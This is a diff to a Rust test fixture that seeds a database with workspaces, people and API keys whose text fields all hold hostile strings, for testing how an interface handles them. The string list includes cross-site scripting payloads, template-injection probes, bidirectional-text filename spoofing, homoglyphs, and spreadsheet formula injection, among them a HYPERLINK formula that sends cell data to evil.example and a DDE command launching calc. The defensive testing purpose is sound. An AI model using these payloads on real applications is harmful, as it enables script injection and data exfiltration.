@@ -1,41 +1,41 @@
-//! An organization whose every free text was written by somebody who means harm, or by an accident.
+//! An organization in which every free text is hostile or broken.
 //!
-//! Invariant: each of [`texts`] is the name of a workspace, of a person and of a key, and stands in every other field
-//! that is text; workspaces are in their order, after the default one, as `hostile-1` and on.
+//! Invariant: each of [`texts`] is in every text field of a workspace, of a person and of a key. The workspaces are in
+//! the same order, after the default one, with the slugs `hostile-1`, `hostile-2` and so on.
 
 use rusqlite::Transaction;
 use time::Duration;
 
-use super::{chance::Chance, empty};
+use super::{empty, random::Random};
 use crate::{
     clock,
     store::{activity, budgets, keys, members, organization, organization::Person, workspaces},
     wire::{ActivityItem, Interval, Key, Role, Usage, Usd},
 };
 
-/// A slug that no client could have made, and that would change the path which it is put into unencoded.
+/// A slug that no client can create. Without encoding it changes a URL's path.
 const SLUG: &str = "\"><img src=x onerror=hostile()>/%2e?panel=delete#\u{202e}";
 
-/// What is in the fields.
+/// Returns the texts.
 fn texts() -> Vec<String> {
     let mut texts: Vec<String> = [
-        // Markup, also such as ends an element that it may stand in.
+        // Markup, including end tags of likely surrounding elements.
         "<img src=x onerror=\"hostile('img')\">",
         "</title></textarea></option><script>hostile('script')</script><iframe srcdoc=\"<script>parent.hostile()</script>\">",
         "\"'><svg/onload=hostile('svg')><style>*{display:none}</style>",
         "javascript:hostile('address')//https://evil.example/%0ahostile(1)",
-        // What a template or a second decoding would make something of.
+        // Text that a template or a second decoding would change.
         "&lt;img src=x onerror=hostile()&gt; {{7*7}} ${7*7} <%= 7*7 %> &#x202e; %3Cscript%3E \\u003cscript\\u003e",
-        // Overrides and isolates that end nowhere, and an end that closes what is around it.
+        // Bidirectional overrides and isolates without an end, and an end without a start.
         "invoice \u{202e}fdp.exe",
         "\u{2069}\u{2069}\u{202e}gnp.ogol\u{2066}\u{2067}\u{202d}\u{202b} 123 abc",
-        // Two that look the same, and one that looks like nothing.
+        // Two texts that look the same, and one that is invisible.
         "Pro\u{200b}duc\u{200d}tion\u{2060}\u{feff}",
         "Рr\u{43e}duction",
         "\u{200b}\u{2060}\u{feff}\u{ad}",
         "שלום עולם 2026 (مرحبا, 100%)",
         "line one\nline two\r\n\ttab \u{0} nul \u{1b}[31mred\u{7f}\u{85}\u{2028}\u{2029}end",
-        // Formulas, of a spreadsheet.
+        // Spreadsheet formulas.
         "=HYPERLINK(\"https://evil.example/?\"&A1,\"Pay\")",
         "+1+cmd|' /C calc'!A0",
         "-2+3\",\"=1+1",
@@ -43,9 +43,9 @@ fn texts() -> Vec<String> {
     ]
     .map(str::to_owned)
     .into();
-    // Families, of seven code points each; flags without a pair.
+    // Emoji of seven code points each, and an incomplete flag.
     texts.push("👨‍👩‍👧‍👦".repeat(40) + "🏳️‍🌈👍🏽🇦");
-    // A tower of marks over each letter.
+    // Many combining marks on each letter.
     texts
         .push("Zalgo".chars().map(|letter| format!("{letter}{}", "\u{300}\u{30d}\u{323}\u{489}".repeat(12))).collect());
     texts.push("x".repeat(10_000));
@@ -53,11 +53,11 @@ fn texts() -> Vec<String> {
     texts
 }
 
-/// The default workspace, one workspace for each text, and one with a hostile slug.
+/// Creates the default workspace, one workspace for each text, and one with a hostile slug.
 pub fn fill(transaction: &Transaction<'_>) -> rusqlite::Result<()> {
-    let mut chance = Chance::new(13);
+    let mut random = Random::new(13);
     let texts = texts();
-    let people = texts.iter().enumerate().map(|(at, text)| person(&mut chance, at, text)).collect::<Vec<_>>();
+    let people = texts.iter().enumerate().map(|(at, text)| person(&mut random, at, text)).collect::<Vec<_>>();
     for person in &people {
         organization::insert(transaction, person)?;
     }
@@ -67,32 +67,32 @@ pub fn fill(transaction: &Transaction<'_>) -> rusqlite::Result<()> {
     for (at, (name, slug)) in std::iter::once(first).chain(named).chain([last]).enumerate() {
         let text = &texts[at % texts.len()];
         let owner = &people[at % people.len()];
-        let created_at = chance.days_ago(60);
-        let mut workspace = empty::workspace(chance.uuid(), name, &slug, Some(owner.id.clone()), created_at);
+        let created_at = random.days_ago(60);
+        let mut workspace = empty::workspace(random.uuid(), name, &slug, Some(owner.id.clone()), created_at);
         workspace.description = Some(text.clone());
         workspace.default_text_model = Some(text.clone());
         workspace.default_image_model = Some(text.clone());
         workspace.default_provider_sort = Some(text.clone());
         workspace.disabled_server_tools = Some(vec![text.clone(), name.to_owned()]);
-        workspace.updated_at = Some(chance.days_ago(20));
+        workspace.updated_at = Some(random.days_ago(20));
         workspaces::insert(transaction, &workspace)?;
         set_budgets(transaction, &workspace.id, &workspace.created_at)?;
         for person in people.iter().filter(|_| slug != "default") {
             members::insert(transaction, &workspace.id, &person.id, person.role, &workspace.created_at)?;
         }
-        // Every key in the last, where nothing can be deleted without clearing them all.
+        // The last workspace has all keys, which block its deletion.
         let in_it = if slug == SLUG { &texts[..] } else { std::slice::from_ref(text) };
         for (number, text) in in_it.iter().enumerate() {
             let owner = &people[(at + number) % people.len()];
-            keys::insert(transaction, &key(&mut chance, &workspace.id, owner, text, number + at))?;
+            keys::insert(transaction, &key(&mut random, &workspace.id, owner, text, number + at))?;
         }
-        activity::insert(transaction, &workspace.id, &spend(&chance, text))?;
+        activity::insert(transaction, &workspace.id, &spend(&random, text))?;
     }
     Ok(())
 }
 
-/// Ids are free text too, but unlike names they differ.
-fn person(chance: &mut Chance, at: usize, text: &str) -> Person {
+/// Creates a person. IDs are free text too, but they are unique.
+fn person(random: &mut Random, at: usize, text: &str) -> Person {
     Person {
         id: format!("{text}{at}"),
         email: format!("{text}@example.com"),
@@ -100,7 +100,7 @@ fn person(chance: &mut Chance, at: usize, text: &str) -> Person {
         last_name: (!at.is_multiple_of(3)).then(|| text.to_owned()),
         role: if at == 0 { Role::Admin } else { Role::Member },
         is_scim: false,
-        joined_at: chance.days_ago(90),
+        joined_at: random.days_ago(90),
     }
 }
 
@@ -112,9 +112,9 @@ fn set_budgets(transaction: &Transaction<'_>, workspace_id: &str, at: &str) -> r
     Ok(())
 }
 
-fn key(chance: &mut Chance, workspace_id: &str, owner: &Person, text: &str, at: usize) -> Key {
+fn key(random: &mut Random, workspace_id: &str, owner: &Person, text: &str, at: usize) -> Key {
     Key {
-        hash: format!("{text}/{at}-{}", chance.hex(8)),
+        hash: format!("{text}/{at}-{}", random.hex(8)),
         name: text.to_owned(),
         label: text.to_owned(),
         disabled: false,
@@ -128,15 +128,15 @@ fn key(chance: &mut Chance, workspace_id: &str, owner: &Person, text: &str, at: 
         usage: Usage { usage: 12.5, usage_daily: 1.0, usage_weekly: 2.0, usage_monthly: 5.5, ..Usage::default() },
         expires_at: None,
         last_used_at: None,
-        created_at: chance.days_ago(30),
+        created_at: random.days_ago(30),
         updated_at: None,
     }
 }
 
-/// What was spent yesterday.
-fn spend(chance: &Chance, text: &str) -> ActivityItem {
+/// Returns the spend of yesterday.
+fn spend(random: &Random, text: &str) -> ActivityItem {
     ActivityItem {
-        date: clock::date((chance.now() - Duration::days(1)).date()),
+        date: clock::date((random.now() - Duration::days(1)).date()),
         model: text.to_owned(),
         model_permaslug: text.to_owned(),
         endpoint_id: String::new(),
